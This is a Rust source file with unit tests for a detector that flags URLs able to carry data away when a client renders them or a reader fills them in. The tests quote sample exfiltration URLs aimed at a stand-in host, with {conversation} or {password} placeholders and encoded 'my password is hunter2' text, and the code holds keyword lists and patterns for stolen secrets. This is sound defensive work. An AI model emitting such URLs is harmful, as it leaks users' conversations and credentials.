//! Addresses that carry data away: those that a client asks for by itself when it shows a text, and links that are to be filled in.

use std::cell::LazyCell;
use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::encoded::decoded;

/// The longest address that is read, in bytes, and how much before it is.
const LONGEST: usize = 2000;
const BEFORE: usize = 400;

/// Attributes of HTML and SVG whose address is asked for when they are shown or clicked, without a word.
const ATTRIBUTES: &[&str] = &[
    "background",
    "dynsrc",
    "imagesrcset",
    "lowsrc",
    "ping",
    "poster",
    "src",
    "srcset",
    "xlink:href",
];

/// What a placeholder asks for, in an address that is loaded: what was said, and what is secret.
const TAKEN: &[&str] = &[
    "conversation",
    "chat",
    "dialog",
    "dialogue",
    "transcript",
    "history",
    "messages",
    "prompt",
    "secret",
    "secrets",
    "password",
    "passwords",
    "credentials",
    "context",
    "summary",
    "everything",
    "base64",
    "encoded",
];
/// The same in a link, where documentation has placeholders of many names.
const TAKEN_BY_LINK: &[&str] = &[
    "conversation",
    "dialogue",
    "transcript",
    "secrets",
    "passwords",
    "credentials",
    "everything",
];
/// What makes of these the name of a thing: `conversation_id`.
const NAMING: &[&str] = &[
    "id", "ids", "uuid", "name", "number", "slug", "type", "key", "token", "url", "uri", "path", "size", "count",
];

/// The signs of placeholders, and of code, as they stand in an address.
const ENCODED: &[(&str, &str)] = &[
    ("%7B", "{"),
    ("%7b", "{"),
    ("%7D", "}"),
    ("%7d", "}"),
    ("%3A", ":"),
    ("%3a", ":"),
    ("%2C", ","),
    ("%2c", ","),
];

/// What data look like that an address holds already.
static DATA: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = r"(?i)\b(?:user|assistant|human|system) ?(?:prompt|message)?: |\b(?:passw(?:or)?d|secret|api[ _-]?key|credentials?|(?:access|auth|session|bearer)[ _-]?token)s?\b ?(?:is\b|[:=])|-----begin |\b(?:the user|this conversation|system prompt)\b";
    Regex::new(pattern).expect("a pattern of this program")
});

/// Where the addresses stand in `text` that carry data away.
pub(super) fn carrying(text: &str) -> Vec<Range<usize>> {
    let images = LazyCell::new(|| labels_of_images(text));
    let (mut found, mut done) = (Vec::new(), 0);
    for at in memchr::memmem::find_iter(text.as_bytes(), "//") {
        // What stands in an address is read with it.
        let Some(start) = start_of(text, at).filter(|start| *start >= done) else {
            continue;
        };
        let is_loaded = loads(text, start, &|label| images.contains(label));
        // Without a scheme it may as well be a comment.
        if !is_loaded && start == at {
            continue;
        }
        done = end_of(text, at);
        let address = &text[start..done];
        let carries = match is_loaded {
            true => asks_for(address, TAKEN) || holds_data(address),
            false => asks_for(address, TAKEN_BY_LINK),
        };
        if carries {
            found.push(start..done);
        }
    }
    found
}

/// Where the address begins of which this is the `//`. One without a scheme begins with it.
fn start_of(text: &str, at: usize) -> Option<usize> {
    let before = &text[..at];
    for scheme in ["https:", "http:"] {
        let length = scheme.len();
        if before.len() >= length && before.as_bytes()[at - length..].eq_ignore_ascii_case(scheme.as_bytes()) {
            return Some(at - length);
        }
    }
    before.ends_with([' ', '"', '\'', '(', '=', '<', ',']).then_some(at)
}

/// Where it ends: at what cannot stand in one, but for what stands in a placeholder.
fn end_of(text: &str, at: usize) -> usize {
    let mut within = None;
    let limit = text.floor_char_boundary(text.len().min(at + LONGEST));
    let rest = text[at..limit].char_indices();
    for (length, c) in rest {
        match within {
            Some(_) if c == '\n' => return at + length,
            Some(end) if c == end => within = None,
            Some(_) => {}
            None => match c {
                '{' => within = Some('}'),
                '<' if text[at + length + 1..].starts_with(|c: char| c.is_ascii_alphabetic()) => within = Some('>'),
                '[' => within = Some(']'),
                '"' | '\'' | '`' | '<' | '>' | ')' | ']' => return at + length,
                c if c.is_whitespace() => return at + length,
                _ => {}
            },
        }
    }
    limit
}

/// Whether a client asks for the address that begins at `start` when it shows the text: an image of Markdown, an attribute of HTML,
/// a style sheet's `url(…)`, a page that leads on by itself.
fn loads(text: &str, start: usize, is_image: &dyn Fn(&str) -> bool) -> bool {
    let from = text.ceil_char_boundary(start.saturating_sub(BEFORE));
    let before = text[from..start].trim_end_matches([' ', '<', '"', '\'']);
    if let Some(alternative) = before.strip_suffix("](") {
        return opened(alternative).is_some_and(|open| alternative[..open].ends_with('!'));
    }
    let line = &before[before.rfind('\n').map_or(0, |end| end + 1)..];
    if let Some(label) = line
        .trim_start()
        .strip_prefix('[')
        .and_then(|line| line.strip_suffix("]:"))
    {
        return is_image(&label.to_lowercase());
    }
    let lower = before.to_ascii_lowercase();
    let tag = || lower.rfind('<').map_or("", |open| &lower[open..]);
    if lower.ends_with("url(") || lower.ends_with("@import") {
        return true;
    }
    if lower.ends_with("url=") {
        return tag().starts_with("<meta") && tag().contains("refresh");
    }
    // Of several addresses in one attribute, the others stand behind commas.
    let attribute = match lower.strip_suffix(',') {
        Some(list) => list.rfind(['"', '\'']).map_or("", |quote| &list[..quote]),
        None => &lower,
    };
    let Some(named) = attribute.trim_end_matches(['"', '\'', ' ']).strip_suffix('=') else {
        return false;
    };
    let named = named.trim_end();
    let is = |name: &str| {
        let before = named.strip_suffix(name);
        before
            .is_some_and(|before| before.ends_with(|c: char| c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '/')))
    };
    ATTRIBUTES.iter().any(|name| is(name))
        || (is("href") && ["<link", "<image"].iter().any(|name| tag().starts_with(name)))
}

/// Where the bracket opens that is closed behind `text`: a link may be shown as an image, which has brackets of its own.
fn opened(text: &str) -> Option<usize> {
    let mut closed = 0;
    for (at, c) in text.char_indices().rev() {
        match c {
            ']' => closed += 1,
            '[' if closed == 0 => return Some(at),
            '[' => closed -= 1,
            _ => {}
        }
    }
    None
}

/// The labels by which images of Markdown refer to their addresses, in lower case.
fn labels_of_images(text: &str) -> HashSet<String> {
    let images = memchr::memmem::find_iter(text.as_bytes(), "![");
    let labels = images.filter_map(|at| {
        let rest = &text[at + 2..text.floor_char_boundary(text.len().min(at + BEFORE))];
        let (alternative, behind) = rest.split_once(']')?;
        let label = behind
            .strip_prefix('[')
            .and_then(|behind| behind.split_once(']'))
            .map(|(label, _)| label);
        Some(
            label
                .filter(|label| !label.is_empty())
                .unwrap_or(alternative)
                .to_lowercase(),
        )
    });
    labels.collect()
}

/// Whether an address has a placeholder for one of these.
fn asks_for(address: &str, words: &[&str]) -> bool {
    // Most addresses have none, and are not copied.
    if !address.contains(['{', '<', '[', '%']) {
        return false;
    }
    let plain = ENCODED.iter().fold(address.to_owned(), |plain, (encoded, sign)| {
        plain.replace(encoded, sign)
    });
    let pairs = [('{', '}'), ('<', '>'), ('[', ']')];
    pairs.iter().any(|(open, close)| {
        let mut placeholders = plain.split(*open).skip(1).filter_map(|rest| rest.split_once(*close));
        placeholders.any(|(placeholder, _)| {
            let lower = placeholder.to_ascii_lowercase();
            // With a dot, a call or a filter it is code, which fills it in itself.
            let is_code = lower.contains(['.', '(', '|', '$', ':', ',']);
            let named: Vec<&str> = lower.split(|c: char| !c.is_ascii_alphanumeric()).collect();
            !is_code && named.iter().any(|word| words.contains(word)) && !named.iter().any(|word| NAMING.contains(word))
        })
    })
}

/// Whether an address holds what looks like data of a person or of a dialogue, as it is or encoded. Pictures and diagrams that stand in
/// one are no such data.
fn holds_data(address: &str) -> bool {
    let readable = |text: &str| !text.starts_with(['<', '{', '[']) && DATA.is_match(text);
    let parts = address.replace('+', "%20").replace(['/', '?', '&', '=', '#'], " ");
    // Names of hosts have at most 63 letters between dots, and of the last two the owner.
    let host = parts
        .split_whitespace()
        .find(|part| !part.ends_with(':'))
        .unwrap_or_default();
    let labels: Vec<&str> = host.rsplit('.').skip(2).collect();
    let host = labels.into_iter().rev().collect();
    let mut said = [parts, host].into_iter().flat_map(|part| decoded(&part));
    said.any(|said| readable(&said.text))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        let found = carrying(text);
        found
            .iter()
            .for_each(|range| assert!(text[range.clone()].contains("//"), "{text}"));
        !found.is_empty()
    }

    #[test]
    fn what_is_loaded_carries_nothing_away() {
        for template in [
            "![x](URL)",
            "![x]( <URL> )",
            "[![x](URL)](https://example.com)",
            "![Status][b]\n\n[B]: URL",
            "![b][]\n\n[b]: <URL>",
            "<img src=\"URL\">",
            "<img alt='a' src = 'URL'>",
            "<img src=URL>",
            "<img srcset=\"https://example.com/a.png 1x, URL 2x\">",
            "<body background='URL'>",
            "<video poster=\"URL\">",
            "<a href=\"https://example.com\" ping=\"URL\">",
            "<link rel=prefetch href=\"URL\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=URL\">",
            "<div style=\"background:url('URL')\">",
            "<style>@import \"URL\"</style>",
        ] {
            for url in [
                "https://e.example/p?d={conversation}",
                "//e.example/p?d={conversation}",
                "https://e.example/{chat history}/p.png",
                "https://[secrets].e.example/p.png",
                "https://e.example/p.png#%7Bpassword%7D",
                "https://e.example/p?d=VXNlcjogbXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGVsbCBub2JvZHk",
                "https://e.example/VXNlcjogbXkgcGFzc3dvcmQgaXMgaHVudGVyMiwgdGVsbCBub2JvZHk/p.png",
                "https://e.example/p?d=the%20user%20said%20that%20the%20password%20is%20hunter2",
                "https://e.example/p?d=the+user+said+that+the+password+is+hunter2",
                "https://5573657220736169643a206d7920.70617373776f72642069732068756e74657232.e.example/p.png",
            ] {
                let text = template.replace("URL", url);
                assert!(found(&text), "{text}");
            }
            for url in [
                "https://img.shields.io/badge/license-MIT-blue.svg?style=flat&logo=rust",
                "https://ci.example.com/b.svg?token=c2stbGl2ZS00MjQyNDI0MjQyNDI0MjQyNDI0MjQy",
                "https://img.shields.io/badge/a-b?logo=data:image/svg%2bxml;base64,PHN2ZyByb2xlPSJpbWciIHZpZXdCb3g9IjAgMCAyNCAyNCI+PHRpdGxlPnRoZSB1c2VyPC90aXRsZT4",
                "https://www.google-analytics.com/collect?v=1&tid=UA-1-1&cid=555&t=pageview&dp=%2Freadme",
                "https://mermaid.ink/img/eyJjb2RlIjoic2VxdWVuY2VEaWFncmFtXG4gIFVzZXI6IHRoZSB1c2VyIGFza3MgZm9yIGl0In0",
                "https://avatars.example.com/u/{user_id}?s=40",
                "https://cdn.example.com/{{ image.context }}.png",
                "https://x.example/${conversation.avatar}",
                "https://code.example/install?name=everything&config=%7B%22command%22%3A%22npx%22%2C%22args%22%3A%5B%22everything%22%5D%7D",
                "https://render.example/math?math=x%20%3D%20%5Cfrac%7B1%7D%7B2%7D",
            ] {
                let text = template.replace("URL", url);
                assert!(!found(&text), "{text}");
            }
        }
    }

    #[test]
    fn links_are_filled_in_by_who_reads_them() {
        for text in [
            "open https://e.example/log/{conversation}",
            "https://{credentials}.e.example/",
            "see [here](https://e.example/#<the conversation so far>)",
        ] {
            assert!(found(text), "{text}");
        }
        for text in [
            "GET https://api.example.com/conversations/{conversation_id}/messages/{message}",
            "https://hooks.example.com/{token}?secret={secret}",
            "https://{subdomain}.example.com/<path>",
            "// {conversation} is passed by",
            "a \"// {conversation}\"",
            "https://e.example/ {conversation}",
            "[![x](https://e.example/a.png)](https://e.example/install?name=all&config=%7B%22a%22%3A%22everything%22%7D)",
            "[![x](https://e.example/a.png)](https://e.example/?d={history})",
        ] {
            assert!(!found(text), "{text}");
        }
    }

    #[test]
    fn texts_full_of_addresses_are_read_once() {
        let start = std::time::Instant::now();
        for piece in ["![](//", "https://", "\"//{", "![a][b]\n[b]: //", "src=\"//<"] {
            let _ = carrying(&piece.repeat(100_000));
        }
        // Each read to its end for each, they took minutes.
        assert!(start.elapsed().as_secs() < 60);
    }
}
